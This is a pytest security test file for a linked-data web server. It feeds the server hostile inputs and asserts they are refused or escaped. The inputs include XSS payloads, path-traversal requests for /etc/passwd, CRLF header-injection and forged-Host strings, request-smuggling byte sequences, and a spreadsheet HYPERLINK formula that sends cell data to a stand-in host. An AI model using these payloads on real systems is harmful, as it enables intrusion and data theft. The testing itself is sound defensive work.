"""What hostile or broken clients send has a defined answer, and data that are hostile stay data."""

import contextlib
import csv
import datetime as dt
import html.parser
import io
import json
import re
import shutil
import socket
import urllib.parse

import httpx
import pyoxigraph as ox
import pytest

from rightsgraph.iri import BASE
from rightsgraph.release.make import make_release
from rightsgraph.release.model import Request
from rightsgraph.release.opened import open_release
from rightsgraph.serve.model import Settings

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"see")'


def raw(served, request, *, half=False):
    """Send bytes as they are, and give the status and the whole of what comes back."""
    with socket.create_connection(("127.0.0.1", served.port), timeout=30) as end:
        end.sendall(request)
        if half:
            end.shutdown(socket.SHUT_WR)
        answer = b"".join(iter(lambda: end.recv(65536), b""))
    first = answer.split(b"\r\n", 1)[0].split(b" ")
    return int(first[1]) if len(first) > 1 else 0, answer


def get(served, target, *headers, host=b"localhost"):
    lines = [b"GET " + target + b" HTTP/1.1", b"Host: " + host, b"Connection: close", *headers]
    return raw(served, b"\r\n".join(lines) + b"\r\n\r\n")


IRIS = {
    "a quote": 'person/x"onmouseover="alert(1)',
    "an apostrophe": "person/x'y",
    "a closing bracket": "person/x>y",
    "an opening bracket": "person/<script>",
    "a closed query": "person/x> } # ",
    "a line": "person/x\ny",
    "a return": "person/x\r\nSet-Cookie: a=b",
    "nothing": "person/\0",
    "a brace": "person/{x}",
    "a backslash": "person/x\\y",
    "a caret": "person/x^y",
    "a bar": "person/x|y",
    "a space": "person/x y",
    "a tab": "person/x\ty",
    "turning signs": "person/\u202ex",
    "an escape": "person/x\\u003Ey",
    "a long name": "person/" + "x" * 2000,
    "a percent sign": "person/%",
    "a template": "person/{{7*7}}",
    "another kind": "nothing/x",
    "no name": "person/",
    "many slashes": "person//x///y",
}


@pytest.mark.parametrize("name", IRIS.values(), ids=IRIS)
def test_an_address_that_is_none_is_unknown_and_not_repeated(client, name):
    for path in (f"/doc/{urllib.parse.quote(name)}", f"/doc/{urllib.parse.quote(name)}.ttl"):
        answer = client.get(path, headers={"Accept": "text/html"})
        assert answer.status_code == 404
        assert "alert(1)" not in answer.text
        assert "<script>" not in answer.text
        assert "Set-Cookie" not in answer.headers
    moved = client.get(f"/id/{urllib.parse.quote(name)}")
    assert moved.status_code in (303, 404)
    assert "\n" not in moved.headers.get("Location", "")
    assert not moved.headers.get("Location", "/doc/").startswith(("//", "http:"))


def test_all_addresses_are_looked_at():
    assert len(IRIS) == 22


PATHS = (
    b"/../../../../etc/passwd",
    b"/data/../../../../etc/passwd",
    b"/files/../release.json/../../../../etc/passwd",
    b"/files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    b"/files/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    b"/files/%2e%2e%5c%2e%2e%5cetc%5cpasswd",
    b"/files//etc/passwd",
    b"/files/%2fetc%2fpasswd",
    b"/files/%00/etc/passwd",
    b"/files/store/names.sqlite",
    b"/store/data/CURRENT",
    b"/files/store/data/CURRENT",
    b"/doc/../../etc/passwd",
    b"/doc/person/..%2f..%2f..%2fetc%2fpasswd",
    b"/queries/../../../etc/passwd",
    b"/queries/..%2f..%2fsrc.rq",
    b"/graph/..%2f..%2fetc%2fpasswd",
    b"/version/../../etc/passwd",
    b"/ns/..%2f..%2f..%2fetc%2fpasswd.ttl",
    b"/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    b"/static/..%252f..%252fetc%252fpasswd",
    b"/patterns/../../SHA256SUMS/../../../etc/passwd",
)


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leaves_what_is_served(served, path):
    status, answer = get(served, path)
    assert status in (400, 404)
    assert b"root:" not in answer
    assert b"MANIFEST" not in answer
    assert b"SQLite" not in answer


INJECTED = (
    b"/id/person/x%0d%0aSet-Cookie:%20a=b",
    b"/id/x%0d%0a%0d%0a<script>alert(1)</script>",
    b"/version/1%0d%0aSet-Cookie:%20a=b/",
    b"/queries/index.html%0d%0aSet-Cookie:%20a=b",
    b"/sparql?format=csv%0d%0aSet-Cookie:%20a=b&query=ASK%7B%7D",
    b"/search?q=%0d%0aSet-Cookie:%20a=b",
    b"/doc/person/x?all=%0d%0aSet-Cookie:%20a=b",
    b"/%0d%0aSet-Cookie:%20a=b",
    b"//evil.example/%2e%2e",
    b"/id//evil.example",
)


@pytest.mark.parametrize("path", INJECTED)
def test_nothing_asked_for_becomes_a_header(served, path):
    status, answer = get(served, path)
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert 200 <= status < 500
    assert b"\r\nset-cookie:" not in head
    assert b"location: //" not in head
    assert b"location: http://evil" not in head
    assert head.count(b"\r\ncontent-type:") <= 1


HOSTS = (
    b"evil.example",
    b"evil.example:80",
    b"localhost.evil.example",
    b"127.0.0.1.evil.example",
    b"localhost@evil.example",
    b"evil.example#localhost",
    b"localhost, evil.example",
    b"[::1",
    b"",
    b"localhost/../evil",
    b"\xff\xfe",
    b"local host",
    b"169.254.169.254",
)


@pytest.mark.parametrize("host", HOSTS)
def test_a_forged_host_is_refused_and_not_repeated(served, host):
    for path in (b"/", b"/id/person/x", b"/sparql", b"/openapi.json"):
        status, answer = get(served, path, host=host)
        assert status in (400, 421)
        assert b"evil" not in answer


def test_two_hosts_or_none_are_refused(served):
    status, _ = raw(
        served, b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    )
    assert status in (400, 421)
    status, _ = raw(served, b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n")
    assert status in (400, 421)


@pytest.mark.parametrize(
    "name", ["X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Original-URL", "X-Host"]
)
def test_no_header_of_proxies_changes_an_address(served, name):
    values = {"Forwarded": b"host=evil.example;proto=evil"}
    value = values.get(name, b"evil.example")
    for path in (b"/", b"/sparql", b"/doc/person/vj4ttqqg", b"/id/person/vj4ttqqg"):
        status, answer = get(served, path, name.encode() + b": " + value, b"Accept: text/turtle, */*;q=0.5")
        assert status in (200, 303)
        assert b"evil" not in answer


BAD_TEXT = {
    "a query that is not UTF-8": b"/sparql?query=ASK%7B%7D%23%ff%fe",
    "a name that is not UTF-8": b"/sparql?query=ASK%7B%7D&%ff=1",
    "a search that is not UTF-8": b"/search?q=%ff%fe",
    "a parameter that is not UTF-8": b"/queries/contract/people?person=%ff",
    "half a character": b"/sparql?query=ASK%7B%7D%23%d0",
    "a surrogate": b"/sparql?query=ASK%7B%7D%23%ed%a0%80",
    "bare bytes": b"/sparql?query=\xff\xfe",
    "a thing that is not UTF-8": b"/doc/person/%ff%fe",
    "a graph that is not UTF-8": b"/store?graph=%ff",
}


@pytest.mark.parametrize("path", BAD_TEXT.values(), ids=BAD_TEXT)
def test_what_is_not_utf_8_is_refused(served, path):
    status, answer = get(served, path)
    assert status in (400, 404)
    assert b"Traceback" not in answer


def test_bodies_that_are_not_utf_8_are_refused(client):
    for kind, body in (
        ("application/sparql-query", b"ASK {} # \xff"),
        ("application/x-www-form-urlencoded", b"query=ASK%7B%7D%23%ff"),
        ("application/sparql-query; charset=utf-16", "ASK {}".encode("utf-16")),
    ):
        answer = client.post("/sparql", content=body, headers={"Content-Type": kind})
        assert answer.status_code in (400, 415), kind


MANY = "&".join(f"p{number}=1" for number in range(10_000))


def test_ten_thousand_parameters_are_refused(client):
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for answer in (
        client.post("/sparql", content=f"query=ASK%7B%7D&{MANY}", headers=form),
        client.get(f"/sparql?query=ASK%7B%7D&{MANY[:30_000]}"),
        client.get(f"/queries/contract/people?{MANY[:30_000]}"),
    ):
        assert answer.status_code in (400, 413, 414, 431)
        assert answer.headers["Content-Type"].startswith("application/problem+json")
    for path in ("/sparql", "/search", "/", "/store", "/doc/person/x"):
        assert client.get(f"{path}?{MANY[:60_000]}").status_code in (414, 431)


def test_long_parameters_are_for_queries_alone(client):
    long = "a=" + "x" * 9_000
    for path in ("/", "/doc/person/vj4ttqqg", "/search", "/graph/merged", "/nothing", "/healthz"):
        answer = client.get(f"{path}?{long}")
        assert (answer.status_code, answer.json()["type"].rpartition("/")[2]) == (414, "too-long")
    assert client.get(f"/sparql?query=ASK%7B%7D&{long}").status_code == 200


def test_a_request_line_without_end_is_refused(served):
    with socket.create_connection(("127.0.0.1", served.port), timeout=30) as end:
        with contextlib.suppress(ConnectionError):
            end.sendall(b"GET /" + b"x" * 2_000_000)
        try:
            answer = end.recv(100)
        except ConnectionResetError:  # it closed before it read all: the answer may be lost on the way
            return
    assert answer == b"" or int(answer.split(b" ")[1]) in (400, 414, 431)


SMUGGLED = (
    b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nquery=",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
    b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Length : 5\r\n\r\nquery",
    b"GET / HTTP/1.1\r\nHost: localhost\r\n folded: x\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n",
    b"GET /\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)


@pytest.mark.parametrize("request_", SMUGGLED, ids=range(len(SMUGGLED)))
def test_what_proxies_read_otherwise_is_refused(served, request_):
    status, answer = raw(served, request_, half=True)
    assert status in (0, 400, 404, 405, 411, 413, 415, 501, 505)
    assert answer.count(b"HTTP/1.1 ") <= 1


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, invented):
    """A release whose names are scripts and formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(invented / "graph", folder / "graph")
    changed = 0
    for path in (folder / "graph" / "source").glob("*.ttl"):
        text = path.read_text("utf-8")
        names = re.findall(r'rg:text "[^"]+"', text)
        for name, told in zip(
            dict.fromkeys(names), (SCRIPT, FORMULA, "@SUM(1)", "-2+3", "\t=1"), strict=False
        ):
            text = text.replace(name, f"rg:text {ox.Literal(told)}")
            changed += 1
        path.write_text(text, "utf-8")
    assert changed > 4
    asked = Request(level="public", day=dt.date(2026, 11, 22))
    make_release(asked, [folder / "graph"], out=folder / "release")
    return folder / "release"


@pytest.fixture(scope="module")
def marked(hostile, serving):
    settings = Settings(folder=hostile, release=open_release(hostile), port=0)
    with serving(settings) as one, httpx.Client(base_url=one.url, trust_env=False, timeout=30) as client:
        yield client


@pytest.fixture(scope="module")
def things(hostile):
    store = ox.Store.read_only(str(hostile / "store" / "data"))
    found = {q.subject.value for q in store if isinstance(q.subject, ox.NamedNode)}
    return sorted(
        iri.removeprefix(f"{BASE}id/")
        for iri in found
        if re.match(f"{BASE}id/(person|organization|event)/", iri)
    )


class Page(html.parser.HTMLParser):
    """Notes what a browser would run, and texts of JSON-LD."""

    def __init__(self):
        super().__init__()
        self.run, self.told, self._in = [], [], False

    def handle_starttag(self, tag, attrs):
        its = dict(attrs)
        self._in = tag == "script" and its.get("type") == "application/ld+json"
        if (
            tag in ("script", "img", "iframe", "object")
            and not self._in
            and not (its.get("src") or "").startswith("/")
        ):
            self.run.append((tag, attrs))
        self.run += [(tag, name) for name in its if name.startswith("on")]
        if (its.get("href") or "").strip().lower().startswith("javascript:"):
            self.run.append((tag, its["href"]))

    def handle_data(self, data):
        if self._in:
            self.told.append(data)

    def handle_endtag(self, tag):
        self._in = False


def test_a_script_in_a_name_is_a_text_on_every_page(marked, things):
    shown = 0
    paths = [f"/doc/{thing}.html" for thing in things]
    paths += ["/", "/queries/", "/search?q=script", f"/search?q={urllib.parse.quote(SCRIPT)}"]
    paths += [f"/sparql?query={urllib.parse.quote('SELECT * { ?s ?p ?o }')}", "/lists/people.html"]
    paths += [f"/queries/contract/people?person={urllib.parse.quote(SCRIPT)}", "/queries/contract/people"]
    for path in paths:
        answer = marked.get(path, headers={"Accept": "text/html"})
        page = Page()
        page.feed(answer.text)
        assert page.run == [], path
        for told in page.told:
            json.loads(told)
        shown += "alert(1)" in answer.text
        assert "script-src" in answer.headers["Content-Security-Policy"] or (
            "default-src 'none'" in answer.headers["Content-Security-Policy"]
        )
    assert shown > 3
    assert len(things) > 10


def test_json_ld_within_a_page_cannot_end_its_script(marked, things):
    held = 0
    for thing in things:
        page = marked.get(f"/doc/{thing}.html").text
        blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)
        for block in blocks:
            assert "<" not in block
            json.loads(block)
            held += "alert(1)" in block
    assert held > 0


@pytest.mark.parametrize("form", ["json", "xml", "csv", "tsv"])
def test_every_form_of_a_query_gives_the_name_whole(marked, form):
    query = 'SELECT ?o { ?s ?p ?o FILTER (CONTAINS(STR(?o), "alert(1)")) } LIMIT 1'
    answer = marked.get("/sparql", params={"query": query, "format": form})
    assert answer.status_code == 200
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    told = html.unescape(answer.text) if form == "xml" else answer.text
    assert "<script>alert(1)</script>" in told or "\\u003c" in told.lower()


def test_a_formula_in_a_named_query_is_no_formula_in_a_spreadsheet(marked):
    seen = 0
    for name in ("people", "organizations", "events"):
        answer = marked.get(f"/queries/contract/{name}.csv")
        assert answer.status_code == 200
        for row in csv.reader(io.StringIO(answer.text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                seen += "HYPERLINK" in cell
    assert seen > 0


def test_the_csv_of_a_query_is_what_the_w3c_says_and_is_not_opened_by_a_browser(marked):
    query = 'SELECT ?o { ?s ?p ?o FILTER (STRSTARTS(STR(?o), "=")) } LIMIT 1'
    answer = marked.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert list(csv.reader(io.StringIO(answer.text)))[1] == [FORMULA]
    assert answer.headers["Content-Disposition"].startswith("attachment")
